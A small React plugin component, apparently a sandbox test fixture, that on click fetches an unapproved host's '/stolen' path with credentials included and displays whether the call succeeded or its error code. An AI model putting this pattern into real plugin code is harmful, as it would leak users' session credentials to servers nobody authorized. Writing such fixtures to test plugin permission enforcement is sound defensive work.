import { usePluginServices } from '@taskweave/plugin-sdk';
import { useState } from 'react';

/** Sends what it knows to a server that nobody has allowed it to call. */
export default function Part() {
  const { backend } = usePluginServices();
  const [said, setSaid] = useState('');
  function call() {
    backend.fetch(`${String(Reflect.get(window, 'elsewhere'))}/stolen`, { credentials: 'include' }).then(
      () => setSaid('went through'),
      (error: unknown) => setSaid(String(Reflect.get(Object(error), 'code'))),
    );
  }
  return (
    <button type="button" onClick={call}>
      Call {said}
    </button>
  );
}
